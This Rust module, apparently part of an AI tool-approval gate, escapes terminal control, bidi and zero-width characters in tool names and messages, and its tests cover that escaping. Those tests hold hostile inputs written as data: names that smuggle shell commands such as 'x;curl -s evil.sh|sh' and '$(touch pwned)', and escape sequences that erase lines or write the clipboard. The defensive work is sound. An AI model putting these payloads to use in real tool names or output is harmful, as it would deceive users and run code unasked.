//! What a person reads is what will run: the one sanitiser for every string a human is shown.
//!
//! Tool and server names, argument values, reasons, rule names, tool descriptions and the
//! changes to a pinned tool come from the server, the model or a policy file. Written raw to a
//! terminal, a carriage return or `ESC[2K` erases what the prompt said, `ESC[8m` hides text, an
//! OSC sequence retitles the window or writes the clipboard, and a right-to-left override
//! shows `exe.txt` for `txt.exe`. Every human-facing channel (the prompt, notices, `toolgate
//! approve`, desktop notifications, elicitation messages, `review`, `audit show`, `trust`,
//! `explain`, `replay`, the demo, the log) passes such text through this module, so that each
//! of these characters is *shown*, escaped, and never *interpreted*.
//!
//! # Which characters
//!
//! A character is hidden, and escaped, when its Unicode general category (Unicode 16, from the
//! `unicode-general-category` crate) is:
//!
//! - `Cc`, control: C0 (U+0000–U+001F, with TAB, CR, LF and ESC), DEL (U+007F) and C1
//!   (U+0080–U+009F, with the 8-bit CSI U+009B);
//! - `Cf`, format: bidi embeddings, overrides and isolates (U+202A–U+202E, U+2066–U+2069),
//!   marks (U+200E, U+200F, U+061C), zero-width characters (U+200B–U+200D, U+2060, U+FEFF),
//!   the soft hyphen, tag characters (U+E0000 block, which smuggle invisible ASCII), ...;
//! - `Zl` and `Zp`: the line and paragraph separators U+2028 and U+2029.
//!
//! Everything else, including non-ASCII letters and emoji, is left as it is. (An emoji joined
//! by U+200D shows its parts with `\u{200d}` between them: the joiner is zero-width, so it is
//! escaped like the others.)
//!
//! # How they are shown
//!
//! [`visible`] writes each hidden character as `\u{…}` in lower-case hex, as Rust's `{:?}`
//! does (`\u{1b}` for ESC, `\u{202e}` for RLO), and writes a backslash as `\\`. Doubling the
//! backslash makes the escaped form unambiguous: a tool literally named `x\u{1b}` (six ASCII
//! characters after the `x`) is shown `x\\u{1b}`, and a tool named `x` + ESC is shown `x\u{1b}`,
//! so two different names never look alike, and text cannot pose as an escape. The price is
//! that a Windows path shows `C:\\Users`, as in JSON and Rust. It also means `visible` is not
//! idempotent: `visible(visible(s))` doubles the backslashes again, so text is escaped once, at
//! the edge where it is written, never stored escaped.
//!
//! [`visible_lines`] is the same but keeps `\n`, for the multi-line blocks that are meant to be
//! multi-line (a tool's description, the rule "remember" would write); a `\r` is still escaped.
//!
//! JSON shown to a person (arguments in the prompt) or printed for scripts (`--json` outputs)
//! keeps JSON's own escapes instead: [`json`] rewrites every hidden character inside a string
//! literal as `\uXXXX` (a surrogate pair above U+FFFF), which serde_json does for C0 only. The
//! text still parses to exactly the same value.

use std::borrow::Cow;
use std::fmt::Write as _;

use serde::Serialize;
use unicode_general_category::{GeneralCategory, get_general_category};

/// Whether `c` is a control, format, or line/paragraph separator character: one a terminal
/// may interpret, or that changes how the text around it looks without being seen. Also every
/// character Unicode says a renderer may draw as nothing (`Default_Ignorable_Code_Point`:
/// variation selectors, the combining grapheme joiner, Hangul fillers, Mongolian free variation
/// selectors, ...), the blank Braille pattern, and every unassigned code point, whose look no
/// one can know: `read_file` and `read_file` + U+FE0F must never look alike.
pub fn is_hidden(c: char) -> bool {
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    matches!(
        get_general_category(c),
        GeneralCategory::Control
            | GeneralCategory::Format
            | GeneralCategory::LineSeparator
            | GeneralCategory::ParagraphSeparator
            | GeneralCategory::Unassigned
    ) || drawn_as_nothing(c)
}

/// `Default_Ignorable_Code_Point` (Unicode 16, DerivedCoreProperties.txt) beyond the format
/// characters, and U+2800, which fonts draw blank.
fn drawn_as_nothing(c: char) -> bool {
    matches!(
        c as u32,
        0x034F
            | 0x115F..=0x1160
            | 0x17B4..=0x17B5
            | 0x180B..=0x180F
            | 0x2060..=0x206F
            | 0x2800
            | 0x3164
            | 0xFE00..=0xFE0F
            | 0xFFA0
            | 0xFFF0..=0xFFF8
            | 0x1BCA0..=0x1BCA3
            | 0x1D173..=0x1D17A
            | 0xE0000..=0xE0FFF
    )
}

/// `name` as one word a person can paste into a shell, shown [`visible`]: quoted unless it is
/// plain (`send_email`), so that a tool named `x;curl evil|sh` is pasted as a name, never run.
pub fn shell_word(name: &str) -> String {
    let quoted = shlex::try_quote(name).unwrap_or_else(|_| Cow::Owned(format!("'{}'", name.replace('\'', "'\\''"))));
    visible(&quoted).into_owned()
}

/// Whether `text` holds a hidden character, which [`visible`] would show escaped. (A backslash
/// alone does not count: it is doubled, but nothing about it is hidden.)
pub fn needs_escaping(text: &str) -> bool {
    text.chars().any(is_hidden)
}

/// `text` with every hidden character shown as `\u{…}` and every backslash as `\\`; borrowed
/// when there is nothing to escape.
pub fn visible(text: &str) -> Cow<'_, str> {
    escape(text, false)
}

/// Like [`visible`], but a `\n` is kept, for text meant to span lines.
pub fn visible_lines(text: &str) -> Cow<'_, str> {
    escape(text, true)
}

fn escape(text: &str, keep_newlines: bool) -> Cow<'_, str> {
    escape_some(text, |c| c != '\\' && (!is_hidden(c) || (keep_newlines && c == '\n')))
}

/// `text` with every character that is not `plain` escaped: a backslash doubled, any other as
/// `\u{…}`.
fn escape_some(text: &str, plain: impl Fn(char) -> bool) -> Cow<'_, str> {
    let Some(first) = text.find(|c| !plain(c)) else { return Cow::Borrowed(text) };
    let mut out = String::with_capacity(text.len() + 16);
    out.push_str(&text[..first]);
    for c in text[first..].chars() {
        if plain(c) {
            out.push(c);
        } else if c == '\\' {
            out.push_str("\\\\");
        } else {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
    }
    Cow::Owned(out)
}

/// `text` with its hidden characters shown as `\u{…}`, and nothing else changed (a backslash is
/// not doubled). A safety net at an edge where text is written whose parts were already made
/// [`visible`]: it is idempotent, so it never escapes them twice, and it guarantees that no
/// hidden character reaches the terminal even if a part was missed.
pub fn escape_hidden(text: &str) -> Cow<'_, str> {
    escape_some(text, |c| !is_hidden(c))
}

/// The warning shown under a name that needed escaping, e.g. `what` = "the tool's name"; `None`
/// when `name` is clean.
pub fn warning(what: &str, name: &str) -> Option<String> {
    needs_escaping(name)
        .then(|| format!("⚠ {what} contains hidden or control characters, shown escaped: it may not be what it seems"))
}

/// A JSON text (as serde_json writes it, compact or pretty, or any valid JSON) with every
/// hidden character inside a string literal written as a `\uXXXX` escape, so that it is safe
/// to print and still parses to exactly the same value. Outside string literals, a TAB or CR
/// (insignificant whitespace, possible only in raw JSON copied through) becomes a space; a
/// `\n` there is kept (pretty output spans lines).
pub fn json(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| is_hidden(c) && c != '\n') {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut in_string = false;
    let mut escaped = false;
    for c in text.chars() {
        if in_string {
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == '"' {
                in_string = false;
            } else if is_hidden(c) {
                let mut units = [0u16; 2];
                for unit in c.encode_utf16(&mut units) {
                    let _ = write!(out, "\\u{unit:04x}");
                }
                continue;
            }
            out.push(c);
        } else if c == '"' {
            in_string = true;
            out.push(c);
        } else if is_hidden(c) && c != '\n' {
            out.push(' ');
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// `value` as one line of JSON, safe to print ([`json`]).
pub fn to_json<T: Serialize + ?Sized>(value: &T) -> serde_json::Result<String> {
    serde_json::to_string(value).map(|s| json(&s).into_owned())
}

/// `value` as pretty JSON, safe to print ([`json`]).
pub fn to_json_pretty<T: Serialize + ?Sized>(value: &T) -> serde_json::Result<String> {
    serde_json::to_string_pretty(value).map(|s| json(&s).into_owned())
}

/// A writer for the log on stderr: every hidden character a log line carries (a tool name, an
/// argument, a server's message) is shown escaped, except the `\n` that ends a line and, when
/// the log is coloured, ESC. tracing-subscriber already writes an ESC inside a message as the
/// text `\x1b`, so with colours on, the ESCs that reach this writer are its own colours.
pub struct LogWriter<W> {
    inner: W,
    colours: bool,
}

impl<W> LogWriter<W> {
    pub fn new(inner: W, colours: bool) -> Self {
        LogWriter { inner, colours }
    }
}

impl<W: std::io::Write> std::io::Write for LogWriter<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let text = String::from_utf8_lossy(buf);
        let colours = self.colours;
        let line = escape_some(&text, |c| !is_hidden(c) || c == '\n' || (colours && c == '\x1b'));
        self.inner.write_all(line.as_bytes())?;
        // The whole buffer is taken, so a line is never split into retried pieces.
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

/// The start of a line, escaped, for logs.
pub fn preview(line: &[u8]) -> String {
    const MAX: usize = 200;
    let shown = &line[..line.len().min(MAX)];
    let mut text: String = shown.escape_ascii().to_string();
    if line.len() > MAX {
        text.push_str(&format!("… ({} bytes)", line.len()));
    }
    text
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    /// One of each class the module promises to escape.
    const HOSTILE: &[(char, &str)] = &[
        ('\0', "NUL"),
        ('\t', "TAB"),
        ('\n', "LF"),
        ('\r', "CR"),
        ('\x1b', "ESC"),
        ('\x07', "BEL"),
        ('\x7f', "DEL"),
        ('\u{80}', "C1 PAD"),
        ('\u{9b}', "C1 CSI"),
        ('\u{9d}', "C1 OSC"),
        ('\u{9f}', "C1 APC"),
        ('\u{ad}', "soft hyphen"),
        ('\u{61c}', "ALM"),
        ('\u{200b}', "ZWSP"),
        ('\u{200c}', "ZWNJ"),
        ('\u{200d}', "ZWJ"),
        ('\u{200e}', "LRM"),
        ('\u{200f}', "RLM"),
        ('\u{2028}', "LINE SEPARATOR"),
        ('\u{2029}', "PARAGRAPH SEPARATOR"),
        ('\u{202a}', "LRE"),
        ('\u{202b}', "RLE"),
        ('\u{202c}', "PDF"),
        ('\u{202d}', "LRO"),
        ('\u{202e}', "RLO"),
        ('\u{2060}', "WORD JOINER"),
        ('\u{2066}', "LRI"),
        ('\u{2067}', "RLI"),
        ('\u{2068}', "FSI"),
        ('\u{2069}', "PDI"),
        ('\u{feff}', "BOM / ZWNBSP"),
        ('\u{e0001}', "LANGUAGE TAG"),
        ('\u{e0041}', "TAG LATIN CAPITAL A"),
    ];

    #[test]
    fn characters_drawn_as_nothing_are_hidden_and_two_names_never_look_alike() {
        // A variation selector, a Hangul filler, the combining grapheme joiner, a Mongolian
        // variation selector, the blank Braille pattern, an unassigned code point, a tag.
        for c in ['\u{fe0f}', '\u{3164}', '\u{34f}', '\u{180b}', '\u{2800}', '\u{378}', '\u{e0041}', '\u{2065}'] {
            assert!(is_hidden(c), "U+{:04X}", c as u32);
            let name = format!("read_file{c}");
            assert_ne!(visible(&name), "read_file", "U+{:04X}", c as u32);
            assert!(warning("the tool's name", &name).is_some());
        }
        for c in ['é', 'ß', '中', '😀', '\u{301}'] {
            assert!(!is_hidden(c), "U+{:04X}", c as u32);
        }
    }

    #[test]
    fn a_name_in_a_command_to_paste_is_one_shell_word() {
        assert_eq!(shell_word("send_email"), "send_email");
        for name in ["x;curl -s evil.sh|sh", "x$(touch pwned)", "a b", "it's", "`id`", "-rf"] {
            let word = shell_word(name);
            assert_eq!(shlex::split(&word), Some(vec![name.to_owned()]), "{name} -> {word}");
        }
        // Hidden characters are still shown escaped, inside the quotes.
        assert!(!shell_word("x\u{1b}]0;t\u{7}").chars().any(is_hidden));
    }

    #[test]
    fn every_hidden_class_is_escaped_as_its_code_point() {
        for &(c, name) in HOSTILE {
            let text = format!("a{c}b");
            assert!(needs_escaping(&text), "{name} must need escaping");
            assert_eq!(visible(&text), format!("a\\u{{{:x}}}b", c as u32), "{name}");
            if c != '\n' {
                assert_eq!(visible_lines(&text), format!("a\\u{{{:x}}}b", c as u32), "{name} in lines");
            }
        }
    }

    #[test]
    fn an_escape_sequence_loses_its_esc_and_cr() {
        assert_eq!(visible("ok\r\x1b[2Kevil"), "ok\\u{d}\\u{1b}[2Kevil");
        assert_eq!(visible("\x1b]52;c;aGk=\x07"), "\\u{1b}]52;c;aGk=\\u{7}");
        assert_eq!(visible("\u{9b}8m"), "\\u{9b}8m");
    }

    #[test]
    fn ordinary_text_is_borrowed_unchanged() {
        for text in ["send_payment", "Grüße, Ωμέγα, 日本語, مرحبا, עברית", "📦 🚀 👍🏽 🇫🇷", "a b.c-d/e:f", ""]
        {
            assert!(!needs_escaping(text), "{text}");
            assert!(matches!(visible(text), Cow::Borrowed(t) if t == text), "{text}");
            assert!(matches!(visible_lines(text), Cow::Borrowed(t) if t == text), "{text}");
        }
    }

    #[test]
    fn lines_keep_newlines_but_not_carriage_returns() {
        assert_eq!(visible_lines("one\ntwo\r\nthree"), "one\ntwo\\u{d}\nthree");
        assert_eq!(visible("one\ntwo"), "one\\u{a}two");
    }

    #[test]
    fn backslash_is_doubled_so_text_cannot_pose_as_an_escape() {
        let literal = "x\\u{1b}";
        let real = "x\x1b";
        assert_ne!(visible(literal), visible(real));
        assert_eq!(visible(literal), "x\\\\u{1b}");
        assert!(!needs_escaping(literal), "a backslash is shown doubled but is not hidden");
        // Not idempotent, by design: escape once, at the edge.
        assert_ne!(visible(&visible(real)), visible(real));
    }

    #[test]
    fn the_table_agrees_with_the_standard_library_on_controls() {
        for c in (0..=0x10ffff).filter_map(char::from_u32) {
            if c.is_control() {
                assert!(is_hidden(c), "U+{:04X} is a control", c as u32);
            }
            // A letter newer than the crate's Unicode version is unassigned to it, and shown
            // escaped; so are the Hangul fillers, letters that are drawn as nothing.
            let assigned = get_general_category(c) != GeneralCategory::Unassigned;
            if (c.is_alphanumeric() || c == ' ') && assigned && !drawn_as_nothing(c) {
                assert!(!is_hidden(c), "U+{:04X} is ordinary", c as u32);
            }
        }
    }

    #[test]
    fn the_safety_net_escapes_only_hidden_characters_and_is_idempotent() {
        let once = escape_hidden("C:\\dir \x1b[2K\u{202e}");
        assert_eq!(once, "C:\\dir \\u{1b}[2K\\u{202e}");
        assert_eq!(escape_hidden(&once), once);
        assert_eq!(escape_hidden(&visible("a\x1b\\")), visible("a\x1b\\"));
    }

    #[test]
    fn a_warning_only_for_a_name_that_needed_escaping() {
        assert_eq!(warning("the tool's name", "read_file"), None);
        let w = warning("the tool's name", "read\u{202e}elif").unwrap();
        assert!(w.contains("the tool's name contains hidden or control characters"), "{w}");
    }

    fn hostile_value() -> Value {
        let all: String = HOSTILE.iter().map(|(c, _)| *c).collect();
        json!({
            format!("key{all}"): format!("value{all}\\\"end"),
            "nested": [all.clone(), {"x": format!("\u{9b}31m{all}")}],
            "plain": "Grüße 📦",
        })
    }

    fn assert_printable(text: &str) {
        let bad: Vec<char> = text.chars().filter(|&c| is_hidden(c) && c != '\n').collect();
        assert!(bad.is_empty(), "raw hidden characters {bad:?} in {text}");
    }

    #[test]
    fn json_is_safe_to_print_and_parses_back_exactly() {
        let value = hostile_value();
        for text in [to_json(&value).unwrap(), to_json_pretty(&value).unwrap()] {
            assert_printable(&text);
            assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), value);
        }
        assert!(to_json(&value).unwrap().contains("\\u202e"));
        assert!(to_json(&value).unwrap().contains("\\udb40\\udc01"), "a tag is a surrogate pair");
    }

    #[test]
    fn json_whitespace_outside_strings_is_flattened_and_clean_json_borrowed() {
        let raw = "{\"a\":\t1,\r\"b\":\"\u{202e}\"}";
        let safe = json(raw);
        assert_printable(&safe);
        assert_eq!(serde_json::from_str::<Value>(&safe).unwrap(), serde_json::from_str::<Value>(raw).unwrap());
        let clean = "{\n  \"a\": \"Grüße\"\n}";
        assert!(matches!(json(clean), Cow::Borrowed(_)));
    }

    #[test]
    fn the_log_writer_escapes_all_but_line_ends_and_its_own_colours() {
        use std::io::Write;
        let mut plain = LogWriter::new(Vec::new(), false);
        plain.write_all("WARN a\r\x1b[2K\u{202e}b\n".as_bytes()).unwrap();
        assert_eq!(String::from_utf8(plain.inner).unwrap(), "WARN a\\u{d}\\u{1b}[2K\\u{202e}b\n");
        let mut coloured = LogWriter::new(Vec::new(), true);
        coloured.write_all("\x1b[33mWARN\x1b[0m a\rb\n".as_bytes()).unwrap();
        assert_eq!(String::from_utf8(coloured.inner).unwrap(), "\x1b[33mWARN\x1b[0m a\\u{d}b\n");
    }
}
